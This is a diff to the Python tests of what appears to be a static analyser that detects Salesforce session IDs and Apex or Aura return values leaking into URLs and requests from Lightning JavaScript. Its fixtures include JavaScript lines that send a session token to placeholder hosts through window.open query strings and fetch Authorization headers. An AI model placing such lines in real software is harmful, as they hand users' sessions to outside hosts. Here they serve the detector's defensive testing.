@@ -398,10 +398,11 @@ export default class C extends LightningElement {
     }
 }
 """, "force-app/main/default/lwc/c/c.js")
-    # what it sets on `this` its template may bind (`bound:` uses, kept or dropped by the package model)
+    # what it sets on `this` its template may bind (`bound:` uses, kept or dropped by the package model);
+    # a URL holds the string of what Apex returned (`ir.as_text`: an object's is not its field's)
     assert [(u.url, u.sources, u.in_query) for u in ir.url_uses if not u.sink.startswith(BOUND_PREFIX)] == [
-        (f"https://a.example.com/?s={HANDED_TEXT}", ("client:apex:ctl.getsid",), True),
-        (f"https://b.example.com/?s={HANDED_TEXT}{{…}}", ("client:apex:ctl.getsid",), True),
+        (f"https://a.example.com/?s={HANDED_TEXT}", ("client:text:apex:ctl.getsid",), True),
+        (f"https://b.example.com/?s={HANDED_TEXT}{{…}}", ("client:text:apex:ctl.getsid",), True),
         ("https://c.example.com/", ("client:apex:ctl.getsid",), False),
     ]
 
@@ -577,9 +578,10 @@ def test_an_imported_apex_method_stands_in_for_what_it_returns() -> None:
                "  fetch('https://x.example/i', { headers: { Authorization: 'Bearer ' + sid } }); }\n"
                "getSid().then((t) => { window.open('https://y.example/?s=' + t); });\n",
                "lwc/sender/sender.js")
+    # the string of what it returns (`ir.as_text`: the analysis tells a `String` from an object)
     assert [(u.sink, u.sources, u.in_query, u.header_or_body) for u in ir.url_uses] == [
-        ("fetch", ("client:apex:ctrl.getsid",), False, True),
-        ("window.open", ("client:apex:ctrl.getsid",), True, False),
+        ("fetch", ("client:text:apex:ctrl.getsid",), False, True),
+        ("window.open", ("client:text:apex:ctrl.getsid",), True, False),
     ]
     assert ir.sources == ()
 
@@ -593,7 +595,49 @@ def test_each_stand_in_keeps_its_own_place_in_the_request() -> None:
                "  fetch(base + '/x', { headers: { Authorization: 'Bearer ' + sid } }); }\n",
                "lwc/sender/sender.js")
     placed = {u.sources: (u.in_query, u.header_or_body) for u in ir.url_uses}
-    assert placed == {("client:apex:ctrl.getbase",): (True, False), ("client:apex:ctrl.getsid",): (False, True)}
+    assert placed == {("client:text:apex:ctrl.getbase",): (True, False),
+                      ("client:text:apex:ctrl.getsid",): (False, True)}
+
+
+def test_the_string_of_an_object_holds_none_of_its_properties_sessions() -> None:
+    """AH-7: `'…' + {sid: s}` writes `[object Object]`; the property itself, the object's JSON, an
+    array's string, an object that makes its own string, and the object handed over whole are
+    still the session."""
+    ir = lower(SID + "var creds = {sid: sid, org: 'x'};\n"
+               "window.open('https://a.example/?c=' + creds);\n"
+               "window.open(`https://b.example/?c=${creds}`);\n"
+               "window.open('https://c.example/?c=' + creds.sid);\n"
+               "window.open('https://d.example/?c=' + JSON.stringify(creds));\n"
+               "window.open('https://e.example/?c=' + [sid]);\n"
+               "window.open('https://f.example/?c=' + {sid: sid, toString() { return this.sid; }});\n"
+               "var o = {org: 'x'}; o.token = sid;\n"
+               "window.open('https://g.example/?c=' + o);\n"
+               "window.open('https://h.example/?c=' + (o || sid));\n"
+               "var p = JSON.parse('{\"sid\": \"' + sid + '\"}'), q = JSON.parse(sid);\n"
+               "window.open('https://i.example/?c=' + p);\n"
+               "window.open('https://j.example/?c=' + q);\n")
+    assert [u.url.split("?")[0] for u in ir.url_uses] == [
+        "https://c.example/", "https://d.example/", "https://e.example/", "https://f.example/", "https://h.example/",
+        "https://j.example/"]
+
+
+def test_the_string_of_a_value_apex_hands_over_whole_is_its_own_stand_in() -> None:
+    """AH-7: what Apex returns may be an object whose field is the session: its string is told
+    apart (`ir.as_text`) for the analysis to decide; a field of it, or the value beside its string
+    in one request, is the value's stand-in as before, and the URL keeps its place."""
+    ir = lower("import getDetails from '@salesforce/apex/Ctrl.getDetails';\n"
+               "async function go() { const d = await getDetails();\n"
+               "  window.open('https://a.example/?d=' + d);\n"
+               "  window.open('https://b.example/?s=' + d.sid);\n"
+               "  window.open('https://c.example/?d=' + d + '&s=' + d.sid);\n"
+               "  const { sid } = d; window.open(`https://e.example/?s=${sid}`); }\n",
+               "lwc/sender/sender.js")
+    assert [(u.url, u.sources) for u in ir.url_uses] == [
+        (f"https://a.example/?d={HANDED_TEXT}", ("client:text:apex:ctrl.getdetails",)),
+        ("https://b.example/?s={…}", ("client:apex:ctrl.getdetails",)),
+        (f"https://c.example/?d={HANDED_TEXT}&s={{…}}", ("client:apex:ctrl.getdetails",)),
+        ("https://e.example/?s={…}", ("client:apex:ctrl.getdetails",)),
+    ]
 
 
 def test_remoting_callbacks_get_what_the_remote_action_returns() -> None:
@@ -681,9 +725,9 @@ def test_aura_action_return_value_is_handed_over_under_a_stand_in() -> None:
     # the second request carries what `v.id` holds, under its attribute's stand-in (dropped unless
     # a page or the bundle's other scripts keep a session there)
     use, state = ir.url_uses
-    assert use.sink == "fetch" and use.sources == ("client:aura:gettoken",) and use.header_or_body
+    assert use.sink == "fetch" and use.sources == ("client:text:aura:gettoken",) and use.header_or_body
     assert use.url == "https://api.partner.example.com/v1/sync"
-    assert state.sink == "fetch" and state.sources == ("client:attribute:lightning.synccmp:id",)
+    assert state.sink == "fetch" and state.sources == ("client:text:attribute:lightning.synccmp:id",)
 
 
 def test_aura_actions_are_only_read_in_an_aura_bundle() -> None:
